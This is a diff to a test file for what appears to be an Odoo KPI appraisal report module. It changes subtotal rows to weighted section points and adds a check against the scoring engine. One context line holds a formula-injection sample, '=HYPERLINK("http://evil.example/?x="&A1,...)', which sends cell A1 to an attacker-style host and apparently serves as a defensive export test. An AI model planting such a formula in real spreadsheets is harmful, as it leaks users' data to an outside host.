@@ -31,6 +31,7 @@ TABLE_HEADER = [
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 URL = "http://evil.example"
 ARRAY = "{=1+1}"
+SUBTOTAL = "Weighted Subtotal (Section Score × Weight)"
 
 
 @tagged("post_install", "-at_install")
@@ -182,12 +183,13 @@ class TestReports(KpiCase):
             [1, "服务态度", 40, None, None, 36, 32, 33.2],
             [2, "平均响应时间", 30, None, None, 20, 20, 20],
             [3, "投诉次数", 30, None, None, 20, 20, 20],
-            ["Subtotal", None, 100, None, None, 76, 72, 73.2],
+            # 76 / 72 / 73.2 of 100 points, weighted 80%
+            [SUBTOTAL, None, 80, None, None, 60.8, 57.6, 58.56],
             ["行为考核 (20%)"] + [None] * 7,
             [4, "以客户为中心", 50, None, None, 40, 30, 33],
             [5, "团队合作", 50, None, None, 45, 40, 41.5],
             [6, "重大服务事故", 0, None, None, 0, 0, 0],
-            ["Subtotal", None, 100, None, None, 85, 70, 74.5],
+            [SUBTOTAL, None, 20, None, None, 17, 14, 14.9],
             [None] * 8,
             ["Self Score"] + [None] * 6 + [77.8],
             ["Supervisor Score"] + [None] * 6 + [71.6],
@@ -245,11 +247,43 @@ class TestReports(KpiCase):
         self.assertEqual(
             self.row(sheet, 11), [4, "一次解决率", 20, None, None, None, 15, 15]
         )
-        self.assertEqual(self.row(sheet, 12)[:3], ["Subtotal", None, 120])
+        self.assertEqual(self.row(sheet, 12)[:3], [SUBTOTAL, None, 80])
         self.assertEqual(sheet["A19"].value, "Self Score")
         self.assertIsNone(sheet["H19"].value, "no self score without self review")
         self.assertEqual(sheet["A24"].value, "Total Score")
         self.assertEqual(sheet["H24"].value, 95.33)
+
+    def test_subtotals_are_the_engine_sections(self):
+        """Each subtotal row shows the engine's weighted points of its section
+        (XLSX and PDF); they add up to the supervisor's score."""
+        appraisals = self.appraisal | self.peer
+        book = self.workbook(xlsx_appraisal.forms_xlsx(appraisals))
+        html = self.render_html(appraisals)
+        for appraisal, sheet in zip(appraisals, book.worksheets, strict=True):
+            sections = list(appraisal._engine_sections().values())
+            rows = [
+                self.row(sheet, row[0].row)
+                for row in sheet.iter_rows(min_row=7)
+                if row[0].value == SUBTOTAL
+            ]
+            self.assertEqual(
+                [row[2:3] + row[5:] for row in rows],
+                [
+                    [s["weight"], s["self_points"], s["manager_points"], s["points"]]
+                    for s in sections
+                ],
+            )
+            self.assertAlmostEqual(
+                sum(s["manager_points"] for s in sections), appraisal.manager_score
+            )
+            for section in sections:
+                self.assertIn(f"{section['points']:.2f}", html)
+        agent = self.appraisal._engine_sections()
+        self.assertEqual(
+            [(s["score"], s["points"]) for s in agent.values()],
+            [(73.2, 58.56), (74.5, 14.9)],
+        )
+        self.assertEqual(html.count('class="fw-bold o_kpi_subtotal"'), 4)
 
     def test_sheet_names_unique(self):
         book = xlsx_appraisal._Workbook(self.env)
@@ -498,7 +532,7 @@ class TestReports(KpiCase):
             ],
         )
         self.assertEqual(self.row(sheet, 8)[:2], [1, "服务态度"])
-        self.assertEqual(sheet["A11"].value, "小计")
+        self.assertEqual(sheet["A11"].value, "加权小计（维度得分 × 权重）")
         self.assertEqual(sheet["A23"].value, "总分")
         self.assertEqual(sheet["A30"].value, "被考核人：")
         self.assertEqual(sheet["C30"].value, "直接上级：")
@@ -535,8 +569,8 @@ class TestReports(KpiCase):
             "10/01/2026 to 10/31/2026",
             "业绩考核 (80%)",
             "服务态度",
-            "Subtotal",
-            "73.20",
+            SUBTOTAL,
+            "58.56",
             "70.46",
             "95.33",
             "C – 合格",
@@ -562,7 +596,7 @@ class TestReports(KpiCase):
             "考核周期",
             "2026年10月01日 至 2026年10月31日",
             "序号",
-            "小计",
+            "加权小计（维度得分 × 权重）",
             "总分",
             "考核等级",
             "绩效工资",
